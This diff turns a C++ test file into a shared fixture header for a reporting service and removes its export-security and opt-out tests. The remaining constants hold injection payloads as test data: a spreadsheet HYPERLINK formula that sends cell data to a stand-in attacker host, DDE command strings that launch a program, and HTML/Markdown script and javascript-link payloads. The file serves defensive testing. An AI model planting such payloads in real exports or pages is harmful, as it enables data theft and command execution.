@@ -9,6 +9,11 @@
 //  - the regional-comparison opt-out: two partnerships that opted out, named so that name
 //    order would tell their anonymous rows apart ("aardvark" and "zebra"), as a region's
 //    dashboard and viewer see them, and as their members and hub administrators do.
+//
+// The world and its fixture; the cases are in reporting_exports_injection_test.cc (findings
+// 10 and 11) and reporting_exports_optout_test.cc (finding 12), one world for both.
+#pragma once
+
 #include <httplib.h>
 
 #include <gmock/gmock.h>
@@ -36,14 +41,14 @@
 #include "services/reporting/http_endpoint.h"
 #include "services/reporting/read_model.h"
 #include "services/reporting/render.h"
+#include "services/reporting/render_escape.h"
 #include "services/reporting/reporting_service.h"
 #include "tests/support/calls.h"
 #include "tests/support/export_text.h"
 #include "tests/support/status_matchers.h"
 #include "tests/support/test_hub.h"
 
-namespace sixsteps::testing {
-namespace {
+namespace sixsteps::testing::exports_test {
 
 namespace asv1 = ::sixsteps::assessment::v1;
 namespace acv1 = ::sixsteps::action::v1;
@@ -60,28 +65,28 @@ using ActStub = acv1::ActionService::Stub;
 using RStub = rv1::ReportingService::Stub;
 using IdStub = idv1::IdentityService::Stub;
 
-constexpr char kRegion[] = "north";
+inline constexpr char kRegion[] = "north";
 // Opted out; "aardvark" sorts first by name, but its figures (all Red) sort last.
-constexpr char kAardvark[] = "aardvark";
-constexpr char kZebra[] = "zebra";   // opted out; all Green
-constexpr char kNamed[] = "middle";  // did not opt out; its texts carry the attacks
-constexpr char kAsOf[] = "2026-06-30";
+inline constexpr char kAardvark[] = "aardvark";
+inline constexpr char kZebra[] = "zebra";   // opted out; all Green
+inline constexpr char kNamed[] = "middle";  // did not opt out; its texts carry the attacks
+inline constexpr char kAsOf[] = "2026-06-30";
 
 // The attacks. The partnership's name starts a formula and carries HTML and a link.
-const std::string kNamedPartnership =
+inline const std::string kNamedPartnership =
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"<img src=x onerror=alert(1)> "
     "[m](javascript:alert(2))\")";
-const std::string kOrganisationName = "@SUM(1+1)*cmd|' /C calc'!A0";
-const std::string kActionDescription = "+cmd|' /C calc'!A0";
-const std::string kRoundTitle =
+inline const std::string kOrganisationName = "@SUM(1+1)*cmd|' /C calc'!A0";
+inline const std::string kActionDescription = "+cmd|' /C calc'!A0";
+inline const std::string kRoundTitle =
     "<img src=x onerror=alert(3)> [click](javascript:alert(4)) <script>alert(5)</script>";
 
-std::string P(const std::string& id) { return absl::StrCat("partnerships/", id); }
-std::string QuestionId(int i) { return absl::StrCat("s", i / 4 + 1, ".q", i % 4 + 1); }
+inline std::string P(const std::string& id) { return absl::StrCat("partnerships/", id); }
+inline std::string QuestionId(int i) { return absl::StrCat("s", i / 4 + 1, ".q", i % 4 + 1); }
 
 // With SIXSTEPS_EXPORTS_ARTIFACTS set to a folder, keeps a rendered export there, to
 // look at (or screenshot with chromium); otherwise does nothing.
-void KeepArtifact(const std::string& name, const std::string& content) {
+inline void KeepArtifact(const std::string& name, const std::string& content) {
   const char* dir = std::getenv("SIXSTEPS_EXPORTS_ARTIFACTS");
   if (dir == nullptr || *dir == '\0') return;
   std::ofstream(std::filesystem::path(dir) / name, std::ios::binary) << content;
@@ -380,228 +385,8 @@ class ReportingExportsTest : public ::testing::Test {
     return client.Get(path, {{"Authorization", "Bearer " + token}});
   }
 
-  static World* world_;
-  static absl::Status setup_;
+  static inline World* world_ = nullptr;
+  static inline absl::Status setup_;
 };
 
-World* ReportingExportsTest::world_ = nullptr;
-absl::Status ReportingExportsTest::setup_;
-
-// ---- Finding 10: CSV formula injection ----
-
-TEST_F(ReportingExportsTest, CsvExportsCarryFormulasAsText) {
-  const World& w = *world_;
-  std::vector<std::string> csvs;
-  for (const rv1::ExportReportRequest& request :
-       {AssessmentExport(w.round.at(kNamed).name()), RegionExport(), TrackerExport(P(kNamed)),
-        TrackerExport(absl::StrCat("regions/", kRegion)),
-        AnnualExport(w.round.at(kNamed).name())}) {
-    absl::StatusOr<std::string> csv = Export(w.hub_admin, request, rv1::FORMAT_CSV);
-    ASSERT_THAT(csv, IsOk());
-    csvs.push_back(*csv);
-  }
-  // Every cell: never the start of a formula; the attacks there with a quote in front.
-  std::set<std::string> cells;
-  for (const std::string& csv : csvs) {
-    for (const auto& record : ParseCsv(csv)) {
-      for (const std::string& cell : record) {
-        EXPECT_FALSE(reporting::CsvCellStartsFormula(cell)) << cell;
-        cells.insert(cell);
-      }
-    }
-  }
-  EXPECT_TRUE(cells.contains("'" + kNamedPartnership));
-  EXPECT_TRUE(cells.contains("'" + kOrganisationName));
-  EXPECT_TRUE(cells.contains("'" + kActionDescription));
-  EXPECT_FALSE(cells.contains(kActionDescription));
-
-  // Over HTTP too.
-  httplib::Result got = Get(w.hub_admin, absl::StrCat("/v1/partnerships/", kNamed,
-                                                      "/actions?format=csv&as_of_date=", kAsOf,
-                                                      "&min_sequence=", w.head));
-  ASSERT_TRUE(got);
-  ASSERT_EQ(got->status, 200) << got->body;
-  bool found = false;
-  for (const auto& record : ParseCsv(got->body)) {
-    for (const std::string& cell : record) {
-      EXPECT_FALSE(reporting::CsvCellStartsFormula(cell)) << cell;
-      found |= cell == "'" + kActionDescription;
-    }
-  }
-  EXPECT_TRUE(found) << got->body;
-}
-
-// ---- Finding 11: Markdown injection in the annual report section ----
-
-TEST_F(ReportingExportsTest, AnnualSectionCarriesTitlesAndNamesAsText) {
-  const World& w = *world_;
-  rv1::AnnualReportSection section;
-  ASSERT_THAT(Annual(w.member.at(kNamed), w.round.at(kNamed).name(), &section), IsOk());
-  std::vector<std::pair<std::string, std::string>> outputs = {{"grpc", section.markdown()}};
-  absl::StatusOr<std::string> markdown =
-      Export(w.member.at(kNamed), AnnualExport(w.round.at(kNamed).name()), rv1::FORMAT_MARKDOWN);
-  ASSERT_THAT(markdown, IsOk());
-  outputs.push_back({"markdown", *markdown});
-  // Plain text is not Markdown (issue 15): the words as they are, without backslash escapes,
-  // and nothing a terminal would act on.
-  absl::StatusOr<std::string> text =
-      Export(w.member.at(kNamed), AnnualExport(w.round.at(kNamed).name()), rv1::FORMAT_TEXT);
-  ASSERT_THAT(text, IsOk());
-  EXPECT_THAT(*text, HasSubstr("onerror=alert(3)>"));
-  EXPECT_THAT(*text, HasSubstr("[click](javascript:alert(4))"));
-  EXPECT_THAT(*text, Not(HasSubstr("\\[")));
-  for (char c : *text) {
-    EXPECT_TRUE(c == '\n' || static_cast<unsigned char>(c) >= 0x20) << static_cast<int>(c);
-  }
-  for (const auto& [what, md] : outputs) {
-    EXPECT_THAT(md, HasSubstr("onerror=alert(3)")) << what << ": the words are there";
-    for (const char* raw : {"<img", "<script"}) {
-      EXPECT_THAT(md, Not(HasSubstr(raw))) << what << ": " << raw;
-    }
-    for (const char* markup : {"[", "](", "]"}) {
-      EXPECT_FALSE(HasUnescaped(md, markup)) << what << ": " << markup << " in\n" << md;
-    }
-  }
-  // The HTML export of the section: nothing runs, nothing links.
-  absl::StatusOr<std::string> html =
-      Export(w.member.at(kNamed), AnnualExport(w.round.at(kNamed).name()), rv1::FORMAT_HTML);
-  ASSERT_THAT(html, IsOk());
-  KeepArtifact("annual-section.html", *html);
-  EXPECT_THAT(*html, HasSubstr("&lt;img src=x onerror=alert(3)&gt;"));
-  for (const char* tag : {"<img", "<script", "<a ", "href=", "javascript:alert(4)\""}) {
-    EXPECT_THAT(*html, Not(HasSubstr(tag))) << tag;
-  }
-  // And over HTTP.
-  httplib::Result got =
-      Get(w.member.at(kNamed), absl::StrCat("/v1/", w.round.at(kNamed).name(),
-                                            "/annual-report?format=md&min_sequence=", w.head));
-  ASSERT_TRUE(got);
-  ASSERT_EQ(got->status, 200) << got->body;
-  EXPECT_THAT(got->body, Not(HasSubstr("<img")));
-  EXPECT_FALSE(HasUnescaped(got->body, "](")) << got->body;
-}
-
-// ---- Finding 12: the regional-comparison opt-out ----
-
-TEST_F(ReportingExportsTest, ARegionsDashboardSeesOptedOutPartnershipsOnlyAsAnonymousRows) {
-  const World& w = *world_;
-  for (const std::string* token : {&w.dashboard, &w.region_viewer}) {
-    rv1::RegionalOverview overview;
-    ASSERT_THAT(Overview(*token, &overview), IsOk());
-    ASSERT_THAT(overview.partnerships(), SizeIs(3));
-    EXPECT_EQ(overview.partnerships(0).partnership(), P(kNamed)) << "named rows first";
-    EXPECT_FALSE(overview.partnerships(0).anonymous());
-    const rv1::RegionalRow& first = overview.partnerships(1);
-    const rv1::RegionalRow& second = overview.partnerships(2);
-    for (const rv1::RegionalRow* row : {&first, &second}) {
-      EXPECT_TRUE(row->anonymous());
-      EXPECT_EQ(row->partnership(), "");
-      EXPECT_EQ(row->assessment(), "");
-      EXPECT_EQ(row->last_scrutiny_date(), "");
-      EXPECT_THAT(row->partnership_name(), HasSubstr("anonymous"));
-      EXPECT_EQ(row->overdue_actions(), 6);
-    }
-    // By name, Aardvark's row would come first; by figures, Zebra's (all Green) does.
-    EXPECT_EQ(first.counts().green(), 24);
-    EXPECT_EQ(second.counts().red(), 24);
-
-    // Nothing that names them in any export.
-    for (rv1::Format format : {rv1::FORMAT_JSON, rv1::FORMAT_CSV, rv1::FORMAT_HTML,
-                               rv1::FORMAT_MARKDOWN, rv1::FORMAT_TEXT}) {
-      absl::StatusOr<std::string> exported = Export(*token, RegionExport(), format);
-      ASSERT_THAT(exported, IsOk());
-      if (format == rv1::FORMAT_HTML && token == &w.dashboard) {
-        KeepArtifact("overview-dashboard.html", *exported);
-      }
-      for (const char* name : {kAardvark, kZebra}) {
-        EXPECT_THAT(*exported, Not(HasSubstr(name))) << format;
-      }
-    }
-    // The region's tracker leaves their actions out.
-    rv1::ActionTracker tracker;
-    ASSERT_THAT(Tracker(*token, absl::StrCat("regions/", kRegion), &tracker), IsOk());
-    EXPECT_EQ(tracker.counts().open(), 6) << "the named partnership's six actions only";
-    absl::StatusOr<std::string> csv =
-        Export(*token, TrackerExport(absl::StrCat("regions/", kRegion)), rv1::FORMAT_CSV);
-    ASSERT_THAT(csv, IsOk());
-    for (const char* name : {kAardvark, kZebra, "Aardvark", "Zebra"}) {
-      EXPECT_THAT(*csv, Not(HasSubstr(name)));
-    }
-  }
-}
-
-TEST_F(ReportingExportsTest, AnOptedOutPartnershipsOwnReportsAreNotFoundToTheRegion) {
-  const World& w = *world_;
-  for (const std::string* token : {&w.dashboard, &w.region_viewer}) {
-    for (const char* p : {kAardvark, kZebra}) {
-      const std::string round = w.round.at(p).name();
-      EXPECT_THAT(Report(*token, round), StatusIs(Code::kNotFound)) << p;
-      EXPECT_THAT(Trend(*token, P(p)), StatusIs(Code::kNotFound)) << p;
-      rv1::ActionTracker tracker;
-      EXPECT_THAT(Tracker(*token, P(p), &tracker), StatusIs(Code::kNotFound)) << p;
-      rv1::AnnualReportSection section;
-      EXPECT_THAT(Annual(*token, round, &section), StatusIs(Code::kNotFound)) << p;
-      rv1::ExportReportRequest trend;
-      trend.mutable_trend()->set_partnership(P(p));
-      EXPECT_THAT(Export(*token, trend, rv1::FORMAT_CSV), StatusIs(Code::kNotFound)) << p;
-      EXPECT_THAT(Export(*token, TrackerExport(P(p)), rv1::FORMAT_CSV), StatusIs(Code::kNotFound))
-          << p;
-      // Over HTTP: 404, as for what does not exist.
-      for (const std::string& path :
-           {absl::StrCat("/v1/", round, "/report?min_sequence=", w.head),
-            absl::StrCat("/v1/partnerships/", p, "/trend?min_sequence=", w.head),
-            absl::StrCat("/v1/partnerships/", p, "/actions?format=csv&min_sequence=", w.head),
-            absl::StrCat("/v1/", round, "/annual-report?format=md&min_sequence=", w.head)}) {
-        httplib::Result got = Get(*token, path);
-        ASSERT_TRUE(got) << path;
-        EXPECT_EQ(got->status, 404) << path << ": " << got->body;
-      }
-    }
-    // The partnership that did not opt out they read.
-    EXPECT_THAT(Report(*token, w.round.at(kNamed).name()), IsOk());
-    EXPECT_THAT(Trend(*token, P(kNamed)), IsOk());
-  }
-}
-
-TEST_F(ReportingExportsTest, MembersAndHubAdministratorsStillSeeEverything) {
-  const World& w = *world_;
-  // Hub administrators: every partnership named, every report, every action.
-  for (const std::string* token : {&w.hub_admin, &w.admin}) {
-    rv1::RegionalOverview overview;
-    ASSERT_THAT(Overview(*token, &overview), IsOk());
-    ASSERT_THAT(overview.partnerships(), SizeIs(3));
-    for (const rv1::RegionalRow& row : overview.partnerships()) {
-      EXPECT_FALSE(row.anonymous()) << row.partnership_name();
-      EXPECT_FALSE(row.partnership().empty());
-    }
-    for (const char* p : {kAardvark, kZebra}) {
-      EXPECT_THAT(Report(*token, w.round.at(p).name()), IsOk()) << p;
-      EXPECT_THAT(Trend(*token, P(p)), IsOk()) << p;
-    }
-    rv1::ActionTracker tracker;
-    ASSERT_THAT(Tracker(*token, absl::StrCat("regions/", kRegion), &tracker), IsOk());
-    EXPECT_EQ(tracker.counts().open(), 18);
-  }
-  // A member of Aardvark: its own reports, and its own row named. Zebra would be the one
-  // anonymous row left, which elimination would name: it is left out.
-  const std::string& member = w.member.at(kAardvark);
-  EXPECT_THAT(Report(member, w.round.at(kAardvark).name()), IsOk());
-  EXPECT_THAT(Trend(member, P(kAardvark)), IsOk());
-  rv1::ActionTracker tracker;
-  EXPECT_THAT(Tracker(member, P(kAardvark), &tracker), IsOk());
-  EXPECT_EQ(tracker.counts().open(), 6);
-  rv1::RegionalOverview overview;
-  ASSERT_THAT(Overview(member, &overview), IsOk());
-  std::vector<std::string> shown;
-  for (const rv1::RegionalRow& row : overview.partnerships()) shown.push_back(row.partnership());
-  EXPECT_THAT(shown, ::testing::UnorderedElementsAre(P(kNamed), P(kAardvark)));
-  httplib::Result got = Get(member, absl::StrCat("/v1/partnerships/", kAardvark,
-                                                 "/trend?format=csv&min_sequence=", w.head));
-  ASSERT_TRUE(got);
-  EXPECT_EQ(got->status, 200) << got->body;
-  // Not Zebra's, though.
-  EXPECT_THAT(Trend(member, P(kZebra)), StatusIs(Code::kNotFound));
-}
-
-}  // namespace
-}  // namespace sixsteps::testing
+}  // namespace sixsteps::testing::exports_test
